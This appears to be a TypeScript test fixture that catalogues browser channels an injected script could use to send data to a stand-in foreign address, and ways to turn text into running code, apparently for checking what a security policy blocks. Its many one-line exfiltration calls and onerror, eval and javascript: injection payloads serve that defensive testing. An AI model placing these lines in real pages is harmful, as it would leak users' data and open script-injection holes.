/**
 * What an injected script could try in order to carry something out of the page, each in a few lines. `away` is a
 * foreign address; `add(tag, attributes)` puts an element into the page.
 */
export type Ways = Readonly<Record<string, string>>;

export const PRELUDE = `
  const add = (tag, attributes = {}, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const svg = (tag, attributes, parent = document.body) => {
    const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const rules = (text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  };
  const call = (urls) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
    (globalThis.peers ??= []).push(peer);
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
`;

const ANYWHERE: Ways = {
  fetch: `await fetch(away)`,
  'fetch without CORS': `await fetch(away, { mode: 'no-cors', method: 'POST', body: 'x' })`,
  WebSocket: `new WebSocket(away.replace('http', 'ws'))`,
  WebSocketStream: `new WebSocketStream(away.replace('http', 'ws'))`,
  EventSource: `new EventSource(away)`,
  WebTransport: `new WebTransport(away.replace('http', 'https'))`,
  'Cache.add': `await (await caches.open('x')).add(away)`,
  FontFace: `await new FontFace('x', 'url(' + away + ')').load()`,
  'WebAssembly.compileStreaming': `await WebAssembly.compileStreaming(fetch(away))`,
};

/** Within a page that stays. */
export const PAGE: Ways = {
  ...ANYWHERE,
  'fetch with keepalive': `await fetch(away, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })`,
  fetchLater: `fetchLater(away, { activateAfter: 0 })`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', away); request.send()`,
  'synchronous XMLHttpRequest': `const request = new XMLHttpRequest(); request.open('GET', away, false); request.send()`,
  sendBeacon: `navigator.sendBeacon(away, 'x')`,
  ping: `add('a', { href: '#x', ping: away }).click()`,

  image: `new Image().src = away`,
  'image of a set': `add('img', { srcset: away + ' 1x' })`,
  'SVG image': `svg('image', { href: away }, svg('svg', {}))`,
  'image button': `add('input', { type: 'image', src: away })`,
  'poster of a video': `add('video', { poster: away })`,
  video: `add('video', { src: away })`,
  audio: `new Audio(away).load()`,
  'text track': `const video = add('video', { crossorigin: 'anonymous' }); add('track', { src: away, default: '' }, video).track.mode = 'showing'`,

  'CSS background': `add('div').style.background = 'url(' + away + ')'; document.body.lastChild.textContent = 'x'`,
  'CSS mask': `add('div').style.maskImage = 'image-set(url(' + away + ') 1x)'; document.body.lastChild.textContent = 'x'`,
  'CSS font': `rules('@font-face { font-family: x; src: url(' + away + ') }'); add('div').style.fontFamily = 'x'; document.body.lastChild.textContent = 'x'`,
  'CSS import': `document.styleSheets[0].insertRule('@import url(' + away + ')', 0)`,
  'inline style with an import': `add('style').textContent = '@import url(' + away + ')'`,
  'paint worklet': `await CSS.paintWorklet.addModule(away)`,
  'audio worklet': `await new AudioContext().audioWorklet.addModule(away)`,

  'link stylesheet': `add('link', { rel: 'stylesheet', href: away })`,
  'link preload image': `add('link', { rel: 'preload', as: 'image', href: away })`,
  'link preload fetch': `add('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: away })`,
  'link preload script': `add('link', { rel: 'preload', as: 'script', href: away })`,
  'link prefetch': `add('link', { rel: 'prefetch', href: away })`,
  'link preconnect': `add('link', { rel: 'preconnect', href: away })`,
  'link modulepreload': `add('link', { rel: 'modulepreload', href: away })`,
  'link icon': `for (const old of document.querySelectorAll('link[rel=icon]')) old.remove(); add('link', { rel: 'icon', href: away }, document.head)`,
  'link manifest': `for (const old of document.querySelectorAll('link[rel=manifest]')) old.remove(); add('link', { rel: 'manifest', href: away }, document.head)`,
  'speculative prefetch': `add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [away] }] })`,
  'speculative prerender': `add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [away] }] })`,

  script: `add('script').src = away`,
  'module script': `add('script', { type: 'module' }).src = away`,
  'dynamic import': `await import(away)`,
  'import of JSON': `await import(away + 'x.json', { with: { type: 'json' } })`,
  'foreign worker': `new Worker(away)`,
  'worker of a blob': `new Worker(blob('fetch("' + away + '")', 'text/javascript'))`,
  'worker of a data URL': `new Worker('data:text/javascript,fetch("' + away + '")')`,
  'foreign shared worker': `new SharedWorker(away)`,
  'shared worker of a blob': `new SharedWorker(blob('fetch("' + away + '")', 'text/javascript'))`,
  'foreign service worker': `await navigator.serviceWorker.register(away)`,

  frame: `add('iframe', { src: away })`,
  'frame with an image': `add('iframe', { srcdoc: '<img src="' + away + '">' })`,
  'frame of a blob': `add('iframe', { src: blob('<img src="' + away + '">', 'text/html') })`,
  'empty frame that goes there': `add('iframe').contentWindow.location = away`,
  'empty frame that fetches': `await add('iframe').contentWindow.fetch(away)`,
  object: `add('object', { data: away })`,
  embed: `add('embed', { src: away })`,
  'form into a frame': `add('iframe', { name: 'target' }); add('form', { action: away, target: 'target' }).submit()`,

  'WebRTC, STUN': `call('stun:' + new URL(away).host)`,
  'WebRTC, TURN': `call('turn:' + new URL(away).host + '?transport=tcp')`,
  payment: `await new PaymentRequest([{ supportedMethods: away.replace('http:', 'https:') }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'federated sign-in': `await navigator.credentials.get({ identity: { providers: [{ configURL: away + 'x.json', clientId: 'x' }] } })`,
  'icon of a notification': `new Notification('x', { icon: away })`,
};

/** By leaving the page, or through another window. */
export const LEAVING: Ways = {
  'setting location': `location.href = away`,
  'location.replace': `location.replace(away)`,
  'navigation.navigate': `navigation.navigate(away)`,
  'click on a link': `add('a', { href: away }).click()`,
  'click on a link to a new window': `add('a', { href: away, target: '_blank' }).click()`,
  'click on a download': `add('a', { href: away, download: 'x' }).click()`,
  'meta refresh': `add('meta', { 'http-equiv': 'refresh', content: '0;url=' + away }, document.head)`,
  form: `add('form', { action: away }).submit()`,
  'form to a new window': `add('form', { action: away, target: '_blank', method: 'post' }).submit()`,
  'window.open': `open(away)`,
  'window.open without opener': `open(away, '_blank', 'noopener')`,
  'window.open, then location': `open('about:blank').location = away`,
  'fetch of an empty window': `await open('about:blank').fetch(away)`,
  'fetch of a window of our own error page': `const other = open(new URL('nothing-here', location.href)); await new Promise((resolve) => setTimeout(resolve, 500)); await other.fetch(away)`,
  'page of a blob, image': `location.href = blob('<img src="' + away + '">', 'text/html')`,
  'page of a blob, meta refresh': `location.href = blob('<meta http-equiv=refresh content="0;url=' + away + '">', 'text/html')`,
};

export const WORKER: Ways = {
  ...ANYWHERE,
  XMLHttpRequest: PAGE.XMLHttpRequest!,
  'dynamic import': PAGE['dynamic import']!,
  importScripts: `importScripts(away)`,
  'foreign worker': PAGE['foreign worker']!,
  'worker of a blob': PAGE['worker of a blob']!,
  'worker of a data URL': PAGE['worker of a data URL']!,
};

export const SERVICE_WORKER: Ways = {
  ...ANYWHERE,
  importScripts: `importScripts(away)`,
  'icon of a notification': `await registration.showNotification('x', { icon: away })`,
};

/** Separate, because it takes its page away. */
export const SERVICE_WORKER_LEAVING: Ways = {
  'WindowClient.navigate': `await (await clients.matchAll())[0].navigate(away)`,
};

/** Ways that look up a foreign name; `away` has one that does not exist. */
export const LOOKUPS: Ways = {
  'link dns-prefetch': `add('link', { rel: 'dns-prefetch', href: away })`,
  'link preconnect': PAGE['link preconnect']!,
  image: PAGE.image!,
  ping: PAGE.ping!,
  frame: PAGE.frame!,
  'form into a frame': PAGE['form into a frame']!,
  'empty frame that goes there': PAGE['empty frame that goes there']!,
  'WebRTC, STUN': PAGE['WebRTC, STUN']!,
  'WebRTC, TURN': PAGE['WebRTC, TURN']!,
};

/**
 * What no browser does for any page: a script of another origin is no worker, and a service worker cannot load one
 * later.
 */
export const REFUSED_ANYWAY = [
  'page: foreign worker',
  'page: foreign shared worker',
  'page: foreign service worker',
  'engine worker: importScripts',
  'engine worker: foreign worker',
  'service worker: importScripts',
];

/** Ways to turn text into code: each records in `ran` that it did. */
export const INJECTIONS: Ways = {
  eval: `eval(code)`,
  'new Function': `new Function(code)()`,
  'timer of text': `setTimeout(code)`,
  'inline script': `add('script').textContent = code`,
  'event handler': `add('img', { src: 'x', onerror: code })`,
  'javascript: link': `add('a', { href: 'javascript:' + code }).click()`,
  innerHTML: `add('div').innerHTML = '<img src="x" onerror="' + code + '">'`,
  insertAdjacentHTML: `add('div').insertAdjacentHTML('beforeend', '<img src="x" onerror="' + code + '">')`,
  createContextualFragment: `document.body.append(new Range().createContextualFragment('<img src="x" onerror="' + code + '">'))`,
  'frame of text': `add('iframe', { srcdoc: '<script>parent.' + code + '</script>' })`,
  'script of a blob': `add('script').src = blob(code, 'text/javascript')`,
  'script of a data URL': `add('script').src = 'data:text/javascript,' + code`,
  'import of a blob': `await import(blob(code, 'text/javascript'))`,
  'another policy': `trustedTypes.createPolicy('another', {}); ran.push(name)`,
  WebAssembly: `await WebAssembly.instantiate(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)); ran.push(name)`,
};
